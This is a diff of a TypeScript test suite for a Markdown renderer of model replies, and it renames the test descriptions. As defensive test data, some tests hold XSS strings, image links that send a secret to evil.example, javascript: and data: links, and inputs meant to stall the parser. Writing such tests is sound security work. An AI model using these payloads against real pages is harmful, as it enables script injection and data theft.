@@ -20,7 +20,7 @@ const html = (text: string) =>
     </WordsProvider>,
   );
 
-describe("what a reply may contain", () => {
+describe("Markdown renders", () => {
   test("tables, lists, links and emphasis", () => {
     const shown = html(
       "# Title\n\n**bold** [site](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
@@ -35,18 +35,18 @@ describe("what a reply may contain", () => {
       expect(shown).toContain(part);
   });
 
-  test("code is shown as it is, and coloured apart from the page", () => {
+  test("code verbatim and highlighted", () => {
     expect(html("```ts\nconst a = 1;\n```")).toContain("<code>const a = 1;</code>");
     expect(highlight("const a = 1;", "ts")?.[0]).toEqual({ classes: "hljs-keyword", parts: ["const"] });
     expect(highlight("x", "no-language")).toBeUndefined();
   });
 
-  test("marks in code are code, however many", () => {
+  test("any number of backticks within code as code", () => {
     const code = "*a_ [x](y) `c` | ~ $\n".repeat(1500);
     expect(html(`\`\`\`\n${code}\`\`\``)).toContain(code.trimEnd().replaceAll("&", "&amp;"));
   });
 
-  test("math in the three ways that models write it", () => {
+  test("math in the three notations that models use", () => {
     for (const text of ["$a^2$", "\\(a^2\\)", "$$\na^2\n$$"]) expect(html(text)).toContain("<msup>");
     for (const text of ["\\[a^2\\]", "$$a^2$$", "So $$a^2$$ it is", "So\n\\[\na^2\n\\]", "- So\n  $$a^2$$"])
       expect(html(text), text).toContain('display="block"');
@@ -59,11 +59,11 @@ describe("what a reply may contain", () => {
     "$5/month or $50/year, and **$5**–$10",
     "US$5, $1,000 and 20$; from $5k to 10k$",
     "One is $9, two $12, $n",
-  ])("sums of money are no formulas: %s", (text) =>
+  ])("sums of money as text: %s", (text) =>
     expect(html(text).replace(/<[^>]*>/g, "")).toBe(text.replaceAll("*", "")),
   );
 
-  test("addresses as they are written, and footnotes where they are", () => {
+  test("plain addresses as links, and footnotes where they are defined", () => {
     const shown = html("See www.example.com/a, https://example.com/b. or ada@example.com; main.py is none");
     for (const address of ["http://www.example.com/a", "https://example.com/b", "mailto:ada@example.com"])
       expect(shown).toContain(`href="${address}"`);
@@ -73,26 +73,26 @@ describe("what a reply may contain", () => {
     );
   });
 
-  test("text that looks like HTML is text", () => {
+  test("text that looks like HTML as text", () => {
     const shown = html('<script>alert(1)</script><img src=x onerror="alert(1)">');
     expect(shown).not.toContain("<script");
     expect(shown).not.toContain("<img");
   });
 });
 
-describe("what must not leave the page", () => {
+describe("Markdown leaks nothing from the page", () => {
   test.each([
     "![x](https://evil.example/?q=secret)",
     "![x][1]\n\n[1]: https://evil.example/?q=secret",
     "[![x](https://evil.example/p.png)](https://evil.example)",
     "![x](//evil.example/p.png)",
-  ])("no picture from elsewhere is fetched: %s", (text) => {
+  ])("external images are not fetched: %s", (text) => {
     const shown = html(text);
     expect(shown).not.toContain("<img");
     expect(shown).not.toContain("preload");
   });
 
-  test("addresses that run something are emptied", () => {
+  test("links with executable schemes are emptied", () => {
     expect(html("[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)")).not.toMatch(
       /javascript:|data:|vbscript:/,
     );
@@ -155,7 +155,7 @@ const hostile: [string, string][] = [
   ["tables", "|a\n|-\n|b\n\n".repeat(9000)],
 ];
 
-describe("what takes minutes elsewhere is read in time that grows with its length only", () => {
+describe("hostile input is parsed in linear time", () => {
   // Warms up the JIT, so that compilation isn't measured.
   for (let n = 0; n < 20; n++) html(`${n} *a* [b](c) \`d\` $e$\n\n- f\n\n|g|\n|-|\n|h|`.repeat(20));
 
@@ -167,7 +167,7 @@ describe("what takes minutes elsewhere is read in time that grows with its lengt
     expect(await processorTime(() => read(given))).toBeLessThan(Math.max(1000, 10 * ordinary));
   });
 
-  test("a page of such messages takes what a page may, and each is shown, as it was written if need be", async () => {
+  test("a page of hostile messages stays within the work limit, and each shows at least its source", async () => {
     const work = new Work(WORK_OF_A_PAGE);
     let shown = 0;
     const taken = await processorTime(() => {
@@ -184,7 +184,7 @@ describe("what takes minutes elsewhere is read in time that grows with its lengt
       ).toBe(text.trim());
   });
 
-  test("a text that was read costs its elements, however often it is shown, and one that was too much costs nothing more", async () => {
+  test("a text that exceeded the work limit is not parsed again", async () => {
     const text = "*a* ".repeat(50_000);
     expect(() => readWithin(text, new Work(100_000))).toThrow(TooMuchWork);
     expect(
@@ -194,7 +194,7 @@ describe("what takes minutes elsewhere is read in time that grows with its lengt
     ).toBeLessThan(500);
   });
 
-  test("a long text and a large table are rendered whole", () => {
+  test("a long text and a large table are rendered completely", () => {
     const ordinary =
       "# Title\n\nSome **bold** words, a [link](https://example.com) and `code`.\n\n- one\n- two\n\n";
     const row = (cell: string) => `${`|${cell}`.repeat(50)}|\n`;
@@ -206,7 +206,7 @@ describe("what takes minutes elsewhere is read in time that grows with its lengt
     ['f"{', "python"],
     ['"#{', "ruby"],
     ["`${", "js"],
-  ])("colours of %s nest no deeper than can be shown", (piece, language) => {
+  ])("highlighting of %s limits its nesting depth", (piece, language) => {
     const depth = (parts: NonNullable<ReturnType<typeof highlight>>): number =>
       Math.max(0, ...parts.map((part) => (typeof part === "string" ? 0 : 1 + depth(part.parts))));
     const parts = highlight(piece.repeat(6000), language)!;
@@ -218,7 +218,7 @@ describe("what takes minutes elsewhere is read in time that grows with its lengt
 describe("splitIntoBlocks", () => {
   const long = "word ".repeat(50);
 
-  test("cuts between paragraphs, never inside of code, math or lists", () => {
+  test("cuts between paragraphs, never within code, math or lists", () => {
     expect(splitIntoBlocks(`${long}\n\nb`)).toEqual([`${long}\n`, "b"]);
     expect(splitIntoBlocks(`\`\`\`\n${long}\n\nb\n\`\`\`\n\nc`)).toEqual([
       `\`\`\`\n${long}\n\nb\n\`\`\`\n`,
@@ -230,12 +230,12 @@ describe("splitIntoBlocks", () => {
     expect(splitIntoBlocks(`[a][1]${long}\n\nb\n\n[1]: https://example.com`)).toHaveLength(1);
   });
 
-  test("gives back every character", () => {
+  test("preserves every character", () => {
     const text = `${long}\n\n\n\`\`\`x\n\n~~~\n\`\`\`\n\n- ${long}\n\nc`;
     expect(splitIntoBlocks(text).join("\n")).toBe(text);
   });
 
-  test("an earlier block stays the same while the text grows", () => {
+  test("keeps earlier blocks stable while the text grows", () => {
     const text = `${long}\n\n${long}\n\n- ${long}\n\n- b\n\n${long}`;
     for (let length = 1; length < text.length; length++) {
       const before = splitIntoBlocks(text.slice(0, length)).slice(0, -1);
